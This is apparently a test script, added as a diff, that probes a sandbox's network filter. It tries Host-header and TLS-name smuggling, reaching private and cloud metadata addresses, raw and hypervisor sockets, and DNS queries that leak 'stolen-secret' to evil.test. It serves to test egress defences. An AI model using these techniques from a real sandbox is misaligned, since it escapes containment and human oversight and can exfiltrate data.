@@ -1,0 +1,173 @@
+"""Tries to get out in every way that the tests know; one line of JSON each. `ok` means that the attempt got through."""
+import json, socket, ssl, struct, sys, time
+
+SHARED, RESOLVER, PRIVATE, METADATA, OUTSIDE = '203.0.113.10', '203.0.113.53', '10.99.0.5', '169.254.169.254', '203.0.113.1'
+
+
+def tcp(host, port, data=b'', family=socket.AF_INET):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(5)
+    s.connect((host, port))
+    if data:
+        s.sendall(data)
+    return s
+
+
+def read(s):
+    out = b''
+    while True:
+        part = s.recv(65536)
+        if not part:
+            return out
+        out += part
+
+
+def get(host, site=None, port=80, before=b''):
+    def run():
+        request = before + f'GET / HTTP/1.1\r\nHost: {site or host}\r\nConnection: close\r\n\r\n'.encode()
+        return read(tcp(host, port, request))
+    return run
+
+
+def expect(word, run):
+    def checked():
+        out = run()
+        assert word.encode() in out, out[:120]
+        return out
+    return checked
+
+
+def keep_alive():
+    s = tcp('good.test', 80, b'GET / HTTP/1.1\r\nHost: good.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
+    return read(s)
+
+
+def pieces():
+    s = tcp('good.test', 80)
+    for part in (b'G', b'ET / HT', b'TP/1.1\r\nHo', b'st: evil.test\r\nConnection: close\r\n\r\n'):
+        s.sendall(part)
+        time.sleep(0.15)
+    return read(s)
+
+
+def two_hosts():
+    return read(tcp('good.test', 80, b'GET / HTTP/1.1\r\nHost: good.test\r\nX: y\r\nHost: evil.test\r\nConnection: close\r\n\r\n'))
+
+
+def absolute():
+    return read(tcp('good.test', 80, b'GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n'))
+
+
+def tls(host, name):
+    def run():
+        context = ssl._create_unverified_context()
+        with context.wrap_socket(tcp(host, 443), server_hostname=name) as s:
+            s.sendall(f'GET / HTTP/1.1\r\nHost: {name or host}\r\nConnection: close\r\n\r\n'.encode())
+            return read(s)
+    return run
+
+
+def question(name, kind=1):
+    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
+    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)
+
+
+def ask_udp(server, name, kind=1):
+    def run():
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(5)
+        s.connect((server, 53))
+        s.send(question(name, kind))
+        out = s.recv(4096)
+        assert out[3] & 15 == 0 and out[7] > 0, out[:12]
+        return out
+    return run
+
+
+def ask_tcp(server, name):
+    def run():
+        q = question(name)
+        out = tcp(server, 53, struct.pack('>H', len(q)) + q).recv(4096)
+        assert out[5] & 15 == 0 and out[9] > 0, out[:14]
+        return out
+    return run
+
+
+def udp(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.connect((host, port))
+    s.send(b'hello')
+    return s.recv(100)
+
+
+def icmp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    s.settimeout(5)
+    s.sendto(b'\x08\0\xf7\xff\0\0\0\0', (SHARED, 0))
+    return s.recv(100)
+
+
+def router():
+    for line in open('/proc/net/route').read().splitlines()[1:]:
+        parts = line.split()
+        if parts[1] == '00000000':
+            return socket.inet_ntoa(struct.pack('<I', int(parts[2], 16)))
+
+
+ATTACKS = {
+    'an allowed name': expect('site good.test', get('good.test')),
+    'an allowed name over TLS': expect('site good.test', tls('good.test', 'good.test')),
+    'a name under a wildcard': expect('site a.wild.test', get('a.wild.test')),
+    'a name with an underscore': expect('site _srv.test', get('_srv.test')),
+    'an unlisted name': expect('site evil.test', get('evil.test')),
+    'the parent of a wildcard': expect('site wild.test', get('wild.test')),
+    'a name that ends like a wildcard': expect('site evilwild.test', get('evilwild.test')),
+    'another site by Host': expect('site evil.test', get('good.test', 'evil.test')),
+    'another site by Host after an empty line': expect('site evil.test', get('good.test', 'evil.test', before=b'\r\n')),
+    'another site in pieces': expect('site evil.test', pieces),
+    'another site in a second request': expect('site evil.test', keep_alive),
+    'another site by TLS name': expect('site evil.test', tls('good.test', 'evil.test')),
+    'no TLS name': expect('site', tls('good.test', None)),
+    'an unlisted port of an allowed name': expect('ssh', lambda: tcp('good.test', 22).recv(50)),
+    'an address': expect('site x', get(SHARED, 'x')),
+    'an address over TLS': expect('site', tls(SHARED, 'good.test')),
+    'a datagram': lambda: udp(SHARED, 5000),
+    'another resolver': ask_udp(RESOLVER, 'evil.test'),
+    'another resolver over TCP': ask_tcp(RESOLVER, 'evil.test'),
+    'a private address': expect('site x', get(PRIVATE, 'x')),
+    'a name for a private address': expect('site inner.test', get('inner.test')),
+    'the metadata service': expect('site x', get(METADATA, 'x')),
+    'a name for the metadata service': expect('site rebind.test', get('rebind.test')),
+    "the engine's machine": lambda: tcp(OUTSIDE, 8081).recv(50),
+    'the router': lambda: tcp(router(), 8081).recv(50),
+    "the engine's resolver": lambda: tcp('127.0.0.11', 1024).recv(1),
+    "the relay itself": lambda: tcp('127.0.0.1', 61000).recv(1) or 1 / 0,
+    'a listed address': expect('other', lambda: tcp(SHARED, 8443).recv(50)),
+    'IPv6': lambda: tcp('2001:db8::1', 80, family=socket.AF_INET6),
+    'a link-local IPv6 address': lambda: tcp('fe80::1', 80, family=socket.AF_INET6),
+    'an echo': icmp,
+    'a raw socket': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
+    'a packet socket': lambda: socket.socket(17, socket.SOCK_RAW, 0),
+    'the packet filter': lambda: socket.socket(16, socket.SOCK_RAW, 12),
+    'the hypervisor': lambda: socket.socket(40, socket.SOCK_STREAM, 0),
+}
+
+for name, run in ATTACKS.items():
+    begun = time.time()
+    try:
+        ok, detail = True, repr(run())[:80]
+    except Exception as problem:
+        ok, detail = False, repr(problem)[:120]
+    print(json.dumps({'name': name, 'ok': ok, 'detail': detail, 'ms': round((time.time() - begun) * 1000)}), flush=True)
+
+for name in ('stolen-secret.evil.test', 'stolen-secret.good.test'):
+    for kind in (1, 28, 16, 15, 255, 65):
+        try:
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.settimeout(5)
+            s.connect(('127.0.0.11', 53))
+            s.send(question(name, kind))
+            s.recv(4096)
+        except OSError:
+            pass
